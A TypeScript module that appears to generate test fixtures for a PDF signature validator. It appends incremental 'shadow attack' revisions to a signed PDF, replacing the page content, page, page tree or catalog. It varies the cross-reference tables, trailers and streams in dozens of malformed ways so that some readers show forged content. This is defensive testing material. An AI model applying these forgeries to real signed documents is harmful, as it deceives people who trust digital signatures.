/**
 * Revisions behind a sealed PDF that make some reader show another page: a replaced object in every place that a reader may
 * look for one, and junk in every place of the cross-references that say where it is.
 */
import { PDF, PdfDict, PdfRef } from '@libpdf/core'

export interface ShadowAttack {
  name: string
  bytes: Buffer
}

/** The places of things in the sealed file. */
interface Places {
  sealed: Buffer
  root: string
  pages: string
  page: string
  contents: string
  size: number
  prev: number
}

type Objects = [name: string, body: string][]

/** A revision in its parts; an attack changes them. */
interface Parts {
  objects: Objects
  keyword: string
  section: (start: number, count: number) => string
  entry: (offset: string, generation: string) => string
  trailer: string[]
  trailerKeyword: string
  startxref: (at: number) => string
  eof: string
}

const CONTENT = 'BT /F1 40 Tf 40 500 Td (999999) Tj ET 40 300 300 100 re f'
const stream = (text: string, more = '') => `<< /Length ${text.length}${more} >>\nstream\n${text}\nendstream`
const FONT = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'

export async function shadowAttacks(sealed: Buffer): Promise<ShadowAttack[]> {
  const places = await placesIn(sealed)
  const attacks: ShadowAttack[] = []
  for (const [target, objects, root] of targets(places)) {
    for (const [spoilt, spoil] of Object.entries(SPOILS)) {
      const parts = spoil(plainParts(places, objects, root), places)
      attacks.push({ name: `${target}, ${spoilt}`, bytes: written(places, parts) })
    }
    for (const [form, write] of Object.entries(FORMS))
      attacks.push({ name: `${target}, ${form}`, bytes: write(places, objects, root) })
  }
  return attacks
}

async function placesIn(sealed: Buffer): Promise<Places> {
  const pdf = await PDF.load(sealed)
  const root = pdf.context.info.trailer.getRef('Root')
  const pages = pdf.getCatalog().getRef('Pages')
  const page = pdf.getPage(0)?.ref
  const dict = page && pdf.getObject(page)
  const contents = dict instanceof PdfDict ? dict.getArray('Contents')?.at(0) : undefined
  if (!root || !pages || !page || !(contents instanceof PdfRef)) throw new Error('not a sealed sample')
  const name = ({ objectNumber, generation }: PdfRef) => `${objectNumber} ${generation}`
  const end = sealed.toString('latin1', sealed.length - 1500)
  return {
    sealed,
    root: name(root),
    pages: name(pages),
    page: name(page),
    contents: name(contents),
    size: Number(/\/Size (\d+)/.exec(end)?.[1]),
    prev: Number(/startxref\n(\d+)\n%%EOF\n$/.exec(end)?.[1]),
  }
}

/** The replaced objects, and the catalog in the trailer. */
function targets({ root, pages, page, contents, size }: Places): [string, Objects, string][] {
  const free = (place: number) => `${size + place} 0`
  const pageOf = (content: string, parent: string) =>
    `<< /Type /Page /Parent ${parent} R /MediaBox [0 0 400 600] /Contents ${content} R ${FONT} >>`
  const tree = (kid: string) => `<< /Type /Pages /Kids [${kid} R] /Count 1 >>`
  const drawn = stream(CONTENT)
  return [
    ['the content', [[contents, stream('0 0 1 rg 40 300 300 100 re f')]], root],
    [
      'the page',
      [
        [free(0), drawn],
        [page, pageOf(free(0), pages)],
      ],
      root,
    ],
    [
      'the page tree',
      [
        [free(0), drawn],
        [free(1), pageOf(free(0), pages)],
        [pages, tree(free(1))],
      ],
      root,
    ],
    [
      'the catalog',
      [
        [free(0), drawn],
        [free(1), pageOf(free(0), free(2))],
        [free(2), tree(free(1))],
        [root, `<< /Type /Catalog /Pages ${free(2)} R >>`],
      ],
      root,
    ],
    [
      'another catalog',
      [
        [free(0), drawn],
        [free(1), pageOf(free(0), free(2))],
        [free(2), tree(free(1))],
        [free(3), `<< /Type /Catalog /Pages ${free(2)} R >>`],
      ],
      free(3),
    ],
  ]
}

const sizeWith = (places: Places, objects: Objects): number =>
  Math.max(places.size, ...objects.map(([name]) => Number.parseInt(name, 10) + 1))

const plainParts = (places: Places, objects: Objects, root: string): Parts => ({
  objects,
  keyword: 'xref\n',
  section: (start, count) => `${start} ${count}\n`,
  entry: (offset, generation) => `${offset} ${generation} n\r\n`,
  trailerKeyword: 'trailer\n',
  trailer: [`/Size ${sizeWith(places, objects)}`, `/Root ${root} R`, `/Prev ${places.prev}`],
  startxref: (at) => `startxref\n${at}\n`,
  eof: '%%EOF\n',
})

function written({ sealed }: Places, parts: Parts): Buffer {
  const { body, offsets } = bodyOf(sealed.length, parts.objects)
  const entries = [...offsets].map(([name, offset]) => {
    const [number = '0', generation = '0'] = name.split(' ')
    const place = parts.entry(String(offset).padStart(10, '0'), generation.padStart(5, '0'))
    return parts.section(Number(number), 1) + place
  })
  const table = `${parts.keyword}${entries.join('')}${parts.trailerKeyword}<< ${parts.trailer.join(' ')} >>\n`
  const tail = parts.startxref(sealed.length + body.length) + parts.eof
  return Buffer.concat([sealed, Buffer.from(body + table + tail, 'latin1')])
}

function bodyOf(from: number, objects: Objects) {
  const offsets = new Map<string, number>()
  let body = ''
  for (const [name, text] of objects) {
    offsets.set(name, from + body.length)
    body += `${name} obj\n${text}\nendobj\n`
  }
  return { body, offsets }
}

type Spoil = (parts: Parts, places: Places) => Parts

const withTrailer =
  (change: (entries: string[], places: Places) => string[]): Spoil =>
  (parts, places) => ({ ...parts, trailer: change(parts.trailer, places) })

const withEntry =
  (entry: Parts['entry']): Spoil =>
  (parts) => ({ ...parts, entry })

const withSection =
  (section: Parts['section']): Spoil =>
  (parts) => ({ ...parts, section })

/** One thing wrong, or nothing. */
const SPOILS: Record<string, Spoil> = {
  'nothing spoilt': (parts) => parts,
  'junk behind the n': withEntry((offset, generation) => `${offset} ${generation} nZ\n`),
  'an entry of 19 bytes': withEntry((offset, generation) => `${offset} ${generation} n\n`),
  'an entry of 21 bytes': withEntry((offset, generation) => `${offset} ${generation} n \r\n`),
  'a short offset': withEntry((offset, generation) => `${Number(offset)} ${generation} n \n`),
  'a signed offset': withEntry((offset, generation) => `+${offset.slice(1)} ${generation} n \n`),
  'an offset beyond the end': withEntry((_, generation) => `9999999999 ${generation} n \n`),
  'a capital N': withEntry((offset, generation) => `${offset} ${generation} N \n`),
  'a free entry': withEntry((offset, generation) => `${offset} ${generation} f \n`),
  'another generation': withEntry((offset) => `${offset} 00001 n \n`),
  'a comment in the entry': withEntry((offset, generation) => `${offset} ${generation} n%\n`),
  'a tab in the entry': withEntry((offset, generation) => `${offset}\t${generation} n \n`),
  'junk behind the keyword': (parts) => ({ ...parts, keyword: 'xref junk\n' }),
  'no line end behind the keyword': (parts) => ({ ...parts, keyword: 'xref ' }),
  'another keyword': (parts) => ({ ...parts, keyword: 'xrex\n' }),
  'a comment in the section': withSection((start, count) => `${start} ${count} % 0 0\n`),
  'a section of too many': withSection((start, count) => `${start} ${count + 1}\n`),
  'a section of none before it': withSection((start, count) => `0 0\n${start} ${count}\n`),
  'a signed section': withSection((start, count) => `+${start} ${count}\n`),
  'a section with a fraction': withSection((start, count) => `${start} ${count}.0\n`),
  'junk before the trailer': (parts) => ({ ...parts, trailerKeyword: 'junk\ntrailer\n' }),
  'no trailer keyword': (parts) => ({ ...parts, trailerKeyword: '' }),
  'no size': withTrailer(([, ...others]) => others),
  'a small size': withTrailer(([, ...others]) => ['/Size 1', ...others]),
  'two sizes': withTrailer((entries) => [...entries, '/Size 1']),
  'the old root behind the new one': withTrailer((entries, { root }) => [...entries, `/Root ${root} R`]),
  'the old root before the new one': withTrailer((entries, { root }) => [`/Root ${root} R`, ...entries]),
  'no root': withTrailer((entries) => entries.filter((one) => !one.startsWith('/Root'))),
  'no link to before': withTrailer((entries) => entries.slice(0, 2)),
  'a link with a fraction': withTrailer((entries) => [...entries.slice(0, 2), `${entries[2]}.0`]),
  'two links': withTrailer((entries) => [...entries, '/Prev 0']),
  'a link to nowhere': withTrailer((entries) => [...entries.slice(0, 2), '/Prev 1']),
  'a name with an escape': withTrailer(([size = '', root = '', prev = '']) => [
    size,
    root.replace('Root', 'R#6fot'),
    prev,
  ]),
  'an unknown key': withTrailer((entries) => [...entries, '/Zegel true']),
  'junk behind startxref': (parts) => ({ ...parts, startxref: (at) => `startxref\n${at}ABC\n` }),
  'startxref of before behind it': (parts, { prev }) => ({
    ...parts,
    eof: `%%EOF\nstartxref\n${prev}\n%%EOF\n`,
  }),
  'startxref nowhere': (parts) => ({ ...parts, startxref: () => 'startxref\n1\n' }),
  'no startxref': (parts) => ({ ...parts, startxref: () => '' }),
  'no end': (parts) => ({ ...parts, eof: '' }),
  'white space behind the end': (parts) => ({ ...parts, eof: `%%EOF\n${' '.repeat(1100)}` }),
}

type Form = (places: Places, objects: Objects, root: string) => Buffer

/** Other ways to say where things are. */
const FORMS: Record<string, Form> = {
  'objects alone': ({ sealed }, objects) =>
    Buffer.concat([sealed, Buffer.from(bodyOf(sealed.length, objects).body, 'latin1')]),
  'a stream of cross-references': (places, objects, root) => asStream(places, objects, root),
  'a stream without a type': (places, objects, root) => asStream(places, objects, root, { type: '' }),
  'a stream with two roots': (places, objects, root) =>
    asStream(places, objects, root, { more: ` /Root ${places.root} R` }),
  'a stream with a wrong length': (places, objects, root) =>
    asStream(places, objects, root, { more: ' /Length 1' }),
  'a stream behind a table': (places, objects, root) => asHybrid(places, objects, root),
  'a stream of objects': (places, objects, root) => asObjectStream(places, objects, root),
}

interface StreamForm {
  type?: string
  more?: string
  /** The objects in object streams: the stream's number and the place in it. */
  compressed?: Map<string, [stream: number, index: number]>
}

function asStream(
  places: Places,
  objects: Objects,
  root: string,
  { type = ' /Type /XRef', more = '', compressed = new Map() }: StreamForm = {},
): Buffer {
  const { sealed, prev } = places
  const { body, offsets } = bodyOf(sealed.length, objects)
  const own = sizeWith(places, [
    ...objects,
    ...[...compressed.keys()].map((name): [string, string] => [name, '']),
  ])
  const at = sealed.length + body.length
  const inUse = [...offsets, [`${own} 0`, at] as const].map(
    ([name, offset]) => [Number.parseInt(name, 10), 1, offset, 0] as const,
  )
  const packed = [...compressed].map(
    ([name, [number, index]]) => [Number.parseInt(name, 10), 2, number, index] as const,
  )
  const entries = [...inUse, ...packed]
  const data = Buffer.concat(
    entries.map(([, kind, place, last]) => {
      const row = Buffer.alloc(6)
      row[0] = kind
      row.writeUInt32BE(place, 1)
      row[5] = last
      return row
    }),
  ).toString('latin1')
  const index = entries.map(([number]) => `${number} 1`).join(' ')
  const dict = `${type} /Size ${own + 1} /W [1 4 1] /Index [${index}] /Root ${root} R /Prev ${prev}${more}`
  const text = `${body}${own} 0 obj\n${stream(data, dict)}\nendobj\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([sealed, Buffer.from(text, 'latin1')])
}

/** A table that names nothing, beside a stream that names all. */
function asHybrid(places: Places, objects: Objects, root: string): Buffer {
  const streamed = asStream(places, objects, root)
  const text = streamed.toString('latin1', places.sealed.length)
  const at = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1])
  const kept = text.slice(0, text.lastIndexOf('startxref'))
  const table = places.sealed.length + kept.length
  const trailer = `trailer\n<< /Size ${sizeWith(places, objects) + 1} /Root ${root} R /Prev ${places.prev} /XRefStm ${at} >>\n`
  const tail = `xref\n0 0\n${trailer}startxref\n${table}\n%%EOF\n`
  return Buffer.concat([places.sealed, Buffer.from(kept + tail, 'latin1')])
}

/** Streams can't stand in one; dictionaries are packed. */
function asObjectStream(places: Places, objects: Objects, root: string): Buffer {
  const packed = objects.filter(([, body]) => !body.includes('stream'))
  const number = sizeWith(places, objects)
  const places0 = packed.map(([name], index) => {
    const before = packed.slice(0, index).reduce((sum, [, body]) => sum + body.length + 1, 0)
    return `${Number.parseInt(name, 10)} ${before}`
  })
  const head = `${places0.join(' ')} `
  const text = head + packed.map(([, body]) => body).join(' ')
  const holder = stream(text, ` /Type /ObjStm /N ${packed.length} /First ${head.length}`)
  const plain = objects.filter((one) => !packed.includes(one))
  const compressed = new Map(packed.map(([name], index) => [name, [number, index] as [number, number]]))
  return asStream(places, [...plain, [`${number} 0`, holder]], root, { compressed })
}
